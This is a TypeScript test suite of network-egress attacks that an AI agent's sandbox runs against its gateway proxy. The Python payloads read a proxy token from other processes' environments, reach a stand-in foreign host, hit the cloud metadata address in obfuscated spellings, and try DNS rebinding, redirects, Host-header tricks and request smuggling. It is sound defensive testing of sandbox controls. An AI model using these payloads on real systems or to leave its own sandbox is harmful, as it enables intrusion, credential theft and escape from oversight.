import type { Arena } from "./arena.ts";
import type { Attack, Attempt } from "./attack.ts";
import { BRIDGE, type Ran } from "./engine.ts";
import { NAIVE_PROXY_PORT } from "./naive-proxy.ts";
import { NAMES } from "./names.ts";
import { onTheBridge } from "./network.ts";
import { type ShellAttack, shellAttack } from "./shell-attack.ts";
import { METADATA_ADDRESS, METADATA_SECRET, newWord } from "./targets.ts";

const AREA = "egress";
const OPEN = "THE WAY IS OPEN";

/**
 * A client of the gateway's proxy, past whatever the worker makes of it; in a control, of a naive proxy. `ask` gives the
 * answer's status and text; what is to follow a CONNECT is sent once that is answered.
 */
const CLIENT = `import glob, os, socket, ssl
def token():
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            for part in open(path, "rb").read().split(b"\\0"):
                if part.startswith(b"FARHAND_ATTEMPT_TOKEN="): return part.split(b"=", 1)[1]
        except OSError: pass
    return b""
def door(bearer=None):
    if os.path.exists("/run/farhand/e.sock"):
        s = socket.socket(socket.AF_UNIX); s.settimeout(4); s.connect("/run/farhand/e.sock")
        s.sendall(b"Bearer " + (token() if bearer is None else bearer) + b"\\r\\n")
        return s
    s = socket.create_connection(("${BRIDGE.v4}", ${NAIVE_PROXY_PORT}), 4); s.settimeout(4)
    return s
def read(s):
    got = b""
    try:
        while len(got) < 100000:
            more = s.recv(65536)
            if not more: break
            got += more
            if b"\\r\\n\\r\\n" in got and got.startswith(b"HTTP/1.1 200 Connection"): break
    except OSError as error: got += str(error).encode()
    return got.decode("latin1")
def ask(head, after=b"", bearer=None):
    try:
        s = door(bearer); s.sendall(head.encode("latin1") + b"\\r\\nConnection: close\\r\\n\\r\\n" if b"CONNECT" not in head.encode()[:8] else head.encode("latin1") + b"\\r\\n\\r\\n")
        text = read(s)
        if after and " 200 " in text.split("\\r\\n")[0]:
            s.sendall(after); s.settimeout(0.7); text += read(s)
        s.close()
    except OSError as error: text = "ERROR " + str(error)
    print(head.split("\\r\\n")[0], "->", text.split("\\r\\n")[0][:120], text[-300:].replace("\\r\\n", " ")); return text
def hello(name):
    context = ssl.create_default_context(); incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try: client.do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
if " 200 " in ask("CONNECT allowed.example.com:443 HTTP/1.1\\r\\nHost: allowed.example.com:443", hello("allowed.example.com"))[:20]: print("${OPEN}")
`;

const throughTheProxy = (
  spec: Pick<ShellAttack, "name" | "by" | "worked"> & { script(word: string): string },
): Attack =>
  shellAttack({
    area: AREA,
    without: onTheBridge,
    proof: OPEN,
    ...spec,
    script: ({ word }) => `python3 - <<'PYTHON'\n${CLIENT}${spec.script(word)}\nPYTHON`,
  });

const connect = (host: string, after: string) =>
  `ask("CONNECT ${host} HTTP/1.1\\r\\nHost: ${host}", ${after})`;
const get = (url: string, host: string) => `ask("GET ${url} HTTP/1.1\\r\\nHost: ${host}")`;
const gotMetadata = (_aim: unknown, { output }: Ran) => output.includes(METADATA_SECRET);

/** One address in all the ways in which programs understand it. */
const SPELLINGS = [
  METADATA_ADDRESS,
  "2852039166",
  "0xa9fea9fe",
  "0251.0376.0251.0376",
  "169.254.43518",
  "[::ffff:169.254.169.254]",
  "[::ffff:a9fe:a9fe]",
  `${METADATA_ADDRESS}.`,
];

const loopbacks = ["127.0.0.1", "localhost", "127.1", "0", "0.0.0.0", "[::1]", "[::]", "2130706433"];

export const egressAttacks: Attack[] = [
  throughTheProxy({
    name: "a host that is not on the list",
    by: "the policy, in the gateway's proxy",
    script: (word) =>
      [
        connect("foreign.example.com:443", `hello("${word}.foreign.example.com")`),
        get(`http://foreign.example.com/${word}`, "foreign.example.com"),
        connect("FOREIGN.example.com.:443", `hello("${word}.foreign.example.com")`),
        get(`http://allowed.example.com@foreign.example.com/${word}`, "foreign.example.com"),
        get(`http://foreign.example.com#allowed.example.com/${word}`, "foreign.example.com"),
      ].join("\n"),
  }),
  throughTheProxy({
    name: "CONNECT with the name of another server in TLS",
    by: "the server that TLS names has to be the one that was asked for",
    script: (word) => connect("allowed.example.com:443", `hello("${word}.foreign.example.com")`),
  }),
  throughTheProxy({
    name: "CONNECT for something that is no TLS",
    by: "the server that TLS names has to be the one that was asked for",
    script: (word) => connect("allowed.example.com:443", `b"${word}\\n" * 20`),
  }),
  throughTheProxy({
    name: "other ports",
    by: "ports 80 and 443, unless another is listed",
    script: (word) =>
      [22, 8443].map((port) => connect(`allowed.example.com:${port}`, `b"SSH-2.0-${word}\\r\\n"`)).join("\n"),
  }),
  throughTheProxy({
    name: "allowed names that lead to the metadata address",
    by: "addresses are checked after the name is resolved",
    script: () => get("http://metadata.example.com/latest/meta-data/", "metadata.example.com"),
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "allowed names that lead to loopback and private networks",
    by: "addresses are checked after the name is resolved",
    script: (word) =>
      [
        connect("private.example.com:443", `b"${word}"`),
        get(`http://private.example.com:7004/${word}`, "private.example.com:7004"),
        get(`http://loopback.example.com:7004/${word}`, "loopback.example.com:7004"),
      ].join("\n"),
  }),
  throughTheProxy({
    name: "the metadata address in other spellings",
    by: "addresses are no hosts of the list, and are checked",
    script: () =>
      SPELLINGS.map((host) => get(`http://${host}/latest/`, host))
        .concat(SPELLINGS.map((host) => connect(`${host}:80`, 'b"GET /latest/ HTTP/1.0\\r\\n\\r\\n"')))
        .join("\n"),
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "the host's own listeners",
    by: "addresses are no hosts of the list, and are checked",
    script: (word) => loopbacks.map((host) => get(`http://${host}:7004/${word}`, `${host}:7004`)).join("\n"),
  }),
  throughTheProxy({
    name: "a redirect of an allowed host to the metadata address",
    by: "each request is checked by itself",
    script: () => `to = "http://${METADATA_ADDRESS}/latest/"
answer = ask("GET http://allowed.example.com/?redirect=" + to + " HTTP/1.1\\r\\nHost: allowed.example.com")
if "${METADATA_ADDRESS}" in answer: ask("GET " + to + " HTTP/1.1\\r\\nHost: ${METADATA_ADDRESS}")`,
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "another host's name in the head of a request",
    by: "the request is written anew for the host that it is for",
    script: (word) =>
      [
        get("http://allowed.example.com/", `${word}.foreign.example.com`),
        `ask("GET http://allowed.example.com/ HTTP/1.1\\r\\nHost: allowed.example.com\\r\\nHost: ${word}.foreign.example.com")`,
        `ask("POST http://allowed.example.com/ HTTP/1.1\\r\\nHost: allowed.example.com\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://foreign.example.com/${word} HTTP/1.1\\r\\nHost: ${word}.foreign.example.com")`,
      ].join("\n"),
    // The internet got a request under a name that nobody allowed.
    worked: async ({ arena, word }) => (await arena.targets.sees(`${word}.foreign.example.com`)) !== null,
  }),
  throughTheProxy({
    name: "the proxy without a token, and with wrong ones",
    by: "the gateway's fence",
    script: (word) =>
      ['b""', 'b"fha_wrong"', "token()[:-1]", 'token() + b"x"', 'b"x " + token()']
        .map(
          (bearer) =>
            `ask("GET http://allowed.example.com/${word} HTTP/1.1\\r\\nHost: allowed.example.com", b"", ${bearer})`,
        )
        .join("\n"),
  }),
];

const getMoving = (word: string) =>
  `python3 - <<'PYTHON'\n${CLIENT}${get(`http://moving.example.com/${word}`, "moving.example.com")}\nPYTHON`;

/** The name leads to the internet when it is asked for first, and inside right after that. */
async function moving(arena: Arena, run: (script: string) => Promise<Ran>): Promise<Attempt> {
  const word = newWord();
  try {
    await run(getMoving(word));
    if ((await arena.targets.sees(word)) === null) throw new Error("the name does not lead to the internet");
    await arena.names.move("moving.example.com", METADATA_ADDRESS);
    const { output } = await run(getMoving(newWord()));
    return { succeeded: output.includes(METADATA_SECRET), evidence: output.slice(-300) };
  } finally {
    await arena.names.move("moving.example.com", NAMES["moving.example.com"]);
  }
}

egressAttacks.push(
  {
    area: AREA,
    name: "a name that leads elsewhere the second time",
    by: "the address that was checked is the one that is connected to",
    try: (arena) => moving(arena, (script) => arena.agent.run(script)),
    control: (arena) => moving(arena, (script) => arena.control(onTheBridge).run(script)),
  },
  {
    area: AREA,
    name: "the proxy while the sandbox rests",
    by: "the gateway is closed between turns",
    async try(arena) {
      const word = newWord();
      const script = `python3 - <<'PYTHON'\n${CLIENT}${get(`http://allowed.example.com/${word}`, "allowed.example.com")}\nPYTHON`;
      const { output } = await arena.engine.exec(await arena.agent.container(), script);
      return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
    },
    async control(arena) {
      const word = newWord();
      const script = `python3 - <<'PYTHON'\n${CLIENT}${get(`http://allowed.example.com/${word}`, "allowed.example.com")}\nPYTHON`;
      const { output } = await arena.agent.run(script);
      return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
    },
  },
);
